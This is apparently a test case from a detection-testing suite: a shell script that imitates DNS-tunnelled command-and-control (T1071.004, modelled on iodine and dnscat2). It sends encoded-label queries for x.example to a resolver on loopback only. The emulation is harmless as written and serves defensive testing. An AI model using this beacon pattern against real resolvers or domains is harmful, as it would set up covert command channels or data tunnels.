#!/bin/sh
# case: T1071.004-name-query-by-tool
# technique: Orders asked for in names
# source: iodine, dnscat2 shapes
# needs: nslookup|python3
# expect: net dns exec
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
if command -v nslookup >/dev/null 2>&1; then for i in 1 2 3; do timeout 2 nslookup "c2h1cnR$i.x.example" 127.0.0.1 >/dev/null 2>&1; done; else python3 -c 'import socket
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
for i in range(3): s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\7c2h1cnR\1x\7example\0\0\x10\0\1",("127.0.0.1",53))'; fi; true
exit 0
